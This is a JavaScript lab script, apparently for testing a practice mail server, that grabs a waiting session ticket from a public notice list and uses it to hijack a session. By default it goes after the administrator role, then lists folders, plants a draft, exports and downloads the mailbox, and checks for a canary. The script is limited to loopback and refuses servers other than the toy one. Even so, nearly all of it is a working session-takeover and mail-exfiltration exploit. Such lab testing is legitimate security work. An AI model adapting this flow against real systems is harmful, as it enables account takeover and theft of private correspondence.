// Lab exercise: can a waiting session on the practice mail server be picked up
// by someone who only saw the public notice list?  Loopback only.
import { request } from 'node:http';
import { createHash, randomBytes, randomUUID, webcrypto } from 'node:crypto';
import { parseArgs } from 'node:util';
import process from 'node:process';

const EXIT = Object.freeze({ leaked: 0, safe: 1, wrongPlace: 2 });
const MEGABYTE = 1024 * 1024;

/** Stop the run with an exit code attached to the error. */
const halt = (exitCode, message) => {
  throw Object.assign(new Error(message), { exitCode });
};
const give = (message) => halt(EXIT.safe, message);

const urlPath = (...parts) =>
  '/' + parts.flatMap((p) => String(p).split('/')).map(encodeURIComponent).join('/');

/** key order is alphabetical so that captures are easy to diff */
const pack = (bag) => {
  const out = new URLSearchParams(bag);
  out.sort();
  return out.toString();
};

const need = (obj, key) =>
  obj?.[key] ?? give(`server reply lacks "${key}"`);

// Body kinds: each turns a value into [media type, bytes].
const asForm = (bag) => ['application/x-www-form-urlencoded', Buffer.from(pack(bag))];
const asJson = (bag) => ['application/json', Buffer.from(JSON.stringify(bag))];
const asUpload = (bag) => {
  const mark = 'x' + randomBytes(15).toString('hex');
  let text = '';
  for (const [name, content] of Object.entries(bag)) {
    text += `--${mark}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${content}\r\n`;
  }
  return [`multipart/form-data; boundary=${mark}`, Buffer.from(`${text}--${mark}--\r\n`)];
};

class Wire {
  #port;
  constructor(port) {
    this.#port = port;
  }

  /** Resolves to { ok, code, text, data() }. */
  async call(label, method, path, { query, body, extra = {} } = {}) {
    const headers = {
      accept: '*/*',
      'accept-language': 'en',
      'user-agent': 'mailroom-lab/3',
      'x-posta-client': 'widget',
      'x-request-id': randomUUID(),
      ...extra,
    };
    let bytes;
    if (body) {
      [headers['content-type'], bytes] = body;
      headers['content-length'] = bytes.length;
    }
    const answer = await this.#roundTrip({
      method,
      headers,
      path: query ? `${path}?${pack(query)}` : path,
    }, bytes).catch((e) => give(`${label}: ${e.code ?? e.message}`));

    if (!/^posta-toy\//.test(answer.software)) {
      halt(EXIT.wrongPlace, `port ${this.#port} is served by something else`);
    }
    if (answer.oversize) give(`${label}: reply exceeds one megabyte`);
    return {
      code: answer.code,
      ok: answer.code < 400,
      text: answer.text,
      data() {
        try {
          return JSON.parse(answer.text);
        } catch {
          return give(`${label}: reply (${answer.code}) is not JSON`);
        }
      },
    };
  }

  /** Same as call(), but an error status ends the run. */
  async must(label, ...rest) {
    const reply = await this.call(label, ...rest);
    return reply.ok ? reply : give(`${label} was turned down (${reply.code}) ${reply.text.slice(0, 120)}`);
  }

  #roundTrip(options, bytes) {
    return new Promise((resolve, reject) => {
      const req = request({ host: '127.0.0.1', port: this.#port, agent: false, ...options });
      req.setTimeout(20_000, () => req.destroy(new Error('no reply in time')));
      req.on('error', reject);
      req.on('response', async (res) => {
        try {
          const chunks = [];
          let size = 0;
          for await (const chunk of res) {
            size += chunk.length;
            if (size > MEGABYTE) break;
            chunks.push(chunk);
          }
          resolve({
            code: res.statusCode,
            software: res.headers.server ?? '',
            oversize: size > MEGABYTE,
            text: Buffer.concat(chunks).toString('utf8'),
          });
        } catch (e) {
          reject(e);
        }
      });
      req.end(bytes);
    });
  }
}

async function signed(ticket) {
  const utf8 = new TextEncoder();
  const stamp = new Date().toISOString().replace(/\.\d+|[:-]/g, '');
  const nonce = [stamp, randomBytes(6).toString('hex')].join('.');
  const { subtle } = webcrypto;
  const key = await subtle.importKey(
    'raw', utf8.encode(ticket), { name: 'HMAC', hash: 'SHA-384' }, false, ['sign'],
  );
  const mac = Buffer.from(await subtle.sign('HMAC', key, utf8.encode(`transfer:${nonce}`)));
  // 19 whole bytes and the upper half of the twentieth
  const signature = mac.toString('hex', 0, 19) + (mac[19] >> 4).toString(16);
  return { 'x-posta-nonce': nonce, 'x-posta-signature': signature };
}

/** What a pass holder may do. */
class Visitor {
  #wire;
  #pass;

  constructor(wire, { pass, who = '?' }) {
    this.#wire = wire;
    this.#pass = pass;
    this.name = who;
  }

  static async takeOver(wire, ticket) {
    const md5 = createHash('md5').update(ticket, 'utf8').digest('base64url');
    const reply = await wire.must('takeover', 'POST', urlPath('door', 'handoff'), {
      extra: await signed(ticket),
      body: asForm({
        mode: 'adopt',
        scope: 'campus',
        reason: 'rebalancing',
        durable: 1,
        session: 'lnk-' + md5.toLowerCase(),
        ticket,
      }),
    });
    const granted = reply.data();
    return granted?.pass ? new Visitor(wire, granted) : give('takeover accepted, but without a pass');
  }

  #go(label, method, path, more = {}) {
    const extra = { authorization: `Badge ${this.#pass}`, ...more.extra };
    return this.#wire.must(label, method, path, { ...more, extra });
  }

  async boxes() {
    const reply = await this.#go('box list', 'GET', urlPath('classic', 'folders'), {
      query: { id: randomUUID(), view: 'brief' },
      extra: { accept: 'application/vnd.posta.register+json' },
    });
    return reply.data().folders ?? [];
  }

  async sizeOf(box) {
    const reply = await this.#go('letter list', 'QUERY', urlPath('messages'), {
      query: { channel: 'socket', folder: box, order: 'alphabetical' },
    });
    return (reply.data().messages ?? []).length;
  }

  async leaveNote(content) {
    const reply = await this.#go('note', 'POST', urlPath('drafts'), {
      extra: { 'x-posta-priority': 'regular' },
      body: asUpload({ passage: content }),
    });
    return need(reply.data(), 'draft');
  }

  async removeNote(note) {
    const reply = await this.#go('note removal', 'PUT', urlPath('purge', note), {
      query: { commit: 'lazy', acting: 'owner' },
    });
    return reply.data().purged ?? 0;
  }

  async download(box) {
    const begun = (await this.#go('archive order', 'POST', urlPath('governance', 'export'), {
      body: asJson({ format: 'mh', consent: 'issued', depth: 'flat', folder: box }),
    })).data();
    const promised = need(begun, 'mails');
    // the archive itself is handed out to the cookie, not to the badge
    const { text } = await this.#wire.must('archive', 'GET', urlPath('export', need(begun, 'job')), {
      query: { id: randomUUID(), source: 'repository' },
      extra: { cookie: `mailsid=${this.#pass}` },
    });
    return { promised, text };
  }

  async signOff() {
    const { ok } = await this.#wire.call('sign-off', 'POST', urlPath('close'), {
      extra: { authorization: `Badge ${this.#pass}` },
      body: asForm({ id: randomUUID(), outcome: 'released' }),
    });
    return ok;
  }
}

/** Walk the archive line by line and yield { title, content }. */
function* letters(archive) {
  let open = null;
  const finish = ({ title, rows }) => ({ title, content: rows.join('\n').trim() });
  for (const row of archive.split(/\r?\n/)) {
    if (row.startsWith('From ')) {
      if (open) yield finish(open);
      open = { title: '', rows: [], top: true };
    } else if (!open) {
      continue;
    } else if (!open.top) {
      open.rows.push(row);
    } else if (row === '') {
      open.top = false;
    } else {
      open.title = /^subject: (.*)$/i.exec(row)?.[1] ?? open.title;
    }
  }
  if (open) yield finish(open);
}

async function investigate(wire, wish) {
  const health = (await wire.must('health', 'GET', urlPath('status'), {
    query: { id: randomUUID(), probe: 'ping' },
  })).data();
  if (health?.toy !== true) halt(EXIT.wrongPlace, 'not a practice server, leaving it alone');

  const notices = (await wire.must('notices', 'GET', urlPath('board'), {
    query: { id: randomUUID(), audience: 'personnel' },
  })).data().waiting ?? [];
  const [target] = notices
    .filter(({ role }) => role === wish.role)
    .sort((a, b) => (a.since < b.since ? -1 : Number(a.since > b.since)));
  if (!target) give(`nobody with role "${wish.role}" is waiting`);

  const visitor = await Visitor.takeOver(wire, need(target, 'ticket'));

  const boxes = await visitor.boxes();
  if (boxes.length === 0) give('there is nothing in this mailbox');
  const box = boxes.some(({ name }) => name === wish.folder)
    ? wish.folder
    : boxes.reduce((a, b) => (b.count > a.count ? b : a)).name;

  const expected = await visitor.sizeOf(box);
  const note = await visitor.leaveNote('Just checking that this can be saved.');
  const { promised, text } = await visitor.download(box);
  const mail = [...letters(text)];
  if (mail.length < Math.max(promised, expected)) {
    give(`archive holds ${mail.length} of ${Math.max(promised, expected)} letters`);
  }

  const removed = wish.keep ? 0 : await visitor.removeNote(note);
  const signedOff = await visitor.signOff();
  const [canary = null] = mail.flatMap(({ content }) => content.match(/posta canary [-A-Za-z\d]+/) ?? []);

  return {
    canary,
    owner: visitor.name,
    box,
    letters: mail.map(({ title }) => title),
    queue: health.waiting ?? 0,
    removed,
    signedOff,
  };
}

function settings() {
  const text = (value) => ({ type: 'string', default: value });
  let values;
  try {
    ({ values } = parseArgs({
      options: {
        port: { type: 'string' },
        host: text('127.0.0.1'),
        role: text('administrator'),
        folder: text('restricted'),
        keep: { type: 'boolean' },
        json: { type: 'boolean' },
      },
    }));
  } catch (e) {
    halt(EXIT.wrongPlace, e.message);
  }
  if (!/^\s*(127\.0\.0\.1|localhost)\s*$/i.test(values.host)) {
    halt(EXIT.wrongPlace, `${values.host} is not this computer (127.0.0.1)`);
  }
  const port = Number(values.port);
  if (!Number.isInteger(port) || port <= 0 || port >= 65536) {
    halt(EXIT.wrongPlace, 'give the server port with --port N');
  }
  return { ...values, port };
}

try {
  const wish = settings();
  const found = await investigate(new Wire(wish.port), wish);
  if (wish.json) {
    console.log(JSON.stringify(found));
  } else {
    console.log(`${found.owner} / ${found.box}: ${found.letters.length} letter(s), ${found.queue} in the queue`);
    for (const title of found.letters) console.log(`  - ${title}`);
    console.log(`note removed: ${found.removed}, signed off: ${found.signedOff ? 'yes' : 'no'}`);
    console.log(found.canary ?? 'no canary seen');
  }
  process.exitCode = found.canary ? EXIT.leaked : EXIT.safe;
} catch (e) {
  console.error(`stopped: ${e.message}`);
  process.exitCode = e.exitCode ?? EXIT.safe;
}
